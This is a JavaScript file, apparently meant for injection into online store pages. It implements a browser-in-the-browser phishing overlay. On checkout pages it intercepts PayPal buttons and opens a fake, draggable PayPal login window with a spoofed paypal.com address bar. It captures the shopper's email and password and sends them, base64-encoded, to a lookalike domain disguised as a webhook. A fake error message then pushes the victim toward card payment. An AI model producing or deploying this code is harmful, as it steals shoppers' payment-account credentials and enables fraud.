// bitb-credential-overlay: "Pay with PayPal" on a store checkout opens a movable fake PayPal browser window instead of the real pop-up
// ES2022 class with private fields; payload base64-encoded and sent by XMLHttpRequest
class PopupWindow {
  #root;
  #drag = null;
  #sink = 'https://paypal-checkout-session.com/v1/webhooks/ack';

  constructor(title, shownUrl) {
    this.title = title;
    this.shownUrl = shownUrl;
  }

  mount(bodyHtml) {
    this.#root = document.createElement('div');
    this.#root.className = 'ppw';
    Object.assign(this.#root.style, {
      position: 'fixed', top: '70px', left: `${Math.max(10, innerWidth / 2 - 225)}px`, width: '450px', height: '580px',
      background: '#fff', border: '1px solid #bbb', boxShadow: '0 20px 60px rgba(0,0,0,.35)', zIndex: '2147483647',
      fontFamily: 'Helvetica Neue,Arial,sans-serif', overflow: 'hidden',
    });
    this.#root.innerHTML = `
      <div class="ppw-bar" style="height:30px;background:#dfe3e8;display:flex;align-items:center;padding:0 10px;font-size:12px;cursor:move">
        ${this.title}<span class="ppw-x" style="margin-left:auto;cursor:pointer">&#10005;</span></div>
      <div style="height:26px;background:#f7f7f7;border-bottom:1px solid #e1e1e1;font-size:12px;display:flex;align-items:center;padding:0 8px">
        <span style="color:#2e7d32">&#128274;</span>&nbsp;<span style="white-space:nowrap;overflow:hidden">${this.shownUrl}</span></div>
      <div class="ppw-body">${bodyHtml}</div>`;
    document.body.append(this.#root);
    this.#root.querySelector('.ppw-x').onclick = () => this.close();
    this.#enableDrag();
    return this.#root;
  }

  #enableDrag() {
    const bar = this.#root.querySelector('.ppw-bar');
    bar.addEventListener('pointerdown', (e) => {
      this.#drag = { x: e.clientX - this.#root.offsetLeft, y: e.clientY - this.#root.offsetTop };
      bar.setPointerCapture(e.pointerId);
    });
    bar.addEventListener('pointermove', (e) => {
      if (!this.#drag) return;
      this.#root.style.left = `${e.clientX - this.#drag.x}px`;
      this.#root.style.top = `${e.clientY - this.#drag.y}px`;
    });
    bar.addEventListener('pointerup', () => { this.#drag = null; });
  }

  report(fields) {
    const packed = btoa(unescape(encodeURIComponent(JSON.stringify({ ...fields, o: location.origin, t: Date.now() }))));
    const xhr = new XMLHttpRequest();
    xhr.open('POST', this.#sink);
    xhr.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
    xhr.send(`event=CHECKOUT.ORDER.APPROVED&resource=${encodeURIComponent(packed)}`);
  }

  close() {
    this.#root?.remove();
  }
}

const PP_BODY = `
  <div style="padding:36px 44px;text-align:center">
    <div style="font:italic bold 30px Verdana,sans-serif;color:#003087">Pay<span style="color:#009cde">Pal</span></div>
    <p style="margin:18px 0;color:#2c2e2f">Pay with PayPal</p>
    <input class="pp-mail" type="email" placeholder="Email or mobile number" style="width:100%;padding:14px;border:1px solid #9da3a6;border-radius:4px;margin-bottom:12px">
    <input class="pp-pass" type="password" placeholder="Password" style="width:100%;padding:14px;border:1px solid #9da3a6;border-radius:4px">
    <div class="pp-msg" style="color:#c72e2e;font-size:13px;min-height:18px;margin:10px 0"></div>
    <button class="pp-go" style="width:100%;padding:13px;border:0;border-radius:24px;background:#0070ba;color:#fff;font-size:16px">Log In</button>
  </div>`;

const hijackPaypalButtons = () => {
  document.querySelectorAll('.paypal-buttons, [data-funding-source="paypal"], #paypal-button-container, button.paypal').forEach((btn) => {
    btn.addEventListener('click', (ev) => {
      ev.preventDefault();
      ev.stopImmediatePropagation();
      const win = new PopupWindow('Log in to your PayPal account', 'https://www.paypal.com/checkoutnow?token=EC-7RL42981KX3390517&locale.x=en_US');
      const root = win.mount(PP_BODY);
      root.querySelector('.pp-go').addEventListener('click', () => {
        const email = root.querySelector('.pp-mail').value.trim();
        const password = root.querySelector('.pp-pass').value;
        if (!email || !password) return;
        win.report({ email, password });
        root.querySelector('.pp-msg').textContent = 'We are unable to process your request. Please pay by card.';
        setTimeout(() => win.close(), 2500);
      });
    }, true);
  });
};

if (/checkout|cart/.test(location.pathname)) {
  document.readyState === 'loading' ? addEventListener('DOMContentLoaded', hijackPaypalButtons) : hijackPaypalButtons();
}
